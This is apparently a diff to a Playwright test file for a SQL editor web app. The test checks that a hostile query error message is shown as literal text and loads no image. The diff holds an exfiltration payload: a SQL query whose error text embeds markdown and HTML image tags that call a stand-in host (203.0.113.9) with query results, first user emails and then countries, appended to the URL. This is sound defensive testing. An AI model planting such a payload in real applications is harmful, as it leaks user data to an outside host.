@@ -162,7 +162,8 @@ def test_lint_findings_are_marked_in_the_editor_gutter(app_server, page):
 
 EXFILTRATE = (
     "SELECT error('![x](http://203.0.113.9/leak.png?d=' || "
-    "(SELECT string_agg(email, ',') FROM (SELECT email FROM raw.users LIMIT 3)) || ') <img src=http://203.0.113.9/i.png>')"
+    "(SELECT string_agg(country, ',') FROM (SELECT country FROM analytics.users ORDER BY user_id LIMIT 3)) "
+    "|| ') <img src=http://203.0.113.9/i.png>')"
 )
 
 
@@ -192,7 +193,9 @@ def test_a_hostile_error_message_is_shown_as_text_and_sends_nothing(app_server, 
     page.get_by_role("button", name="Run", exact=True).click()
     page.wait_for_selector("text=Result 1", timeout=30_000)
     wait_for_app(page)
-    page.wait_for_function("() => document.body.innerText.includes('![x](http')", timeout=30_000)
+    alert = page.locator('[data-testid="stAlert"]', has_text="![x](http://203.0.113.9/leak.png?d=")
+    alert.first.wait_for(timeout=30_000)  # the error shows the message literally, data and all
+    assert "<img src=http://203.0.113.9/i.png>" in alert.first.inner_text()
     assert page.locator("img[src*='203.0.113.9']").count() == 0
     page.goto(app_server + "/library?q=support/hostile_description")
     wait_for_app(page)
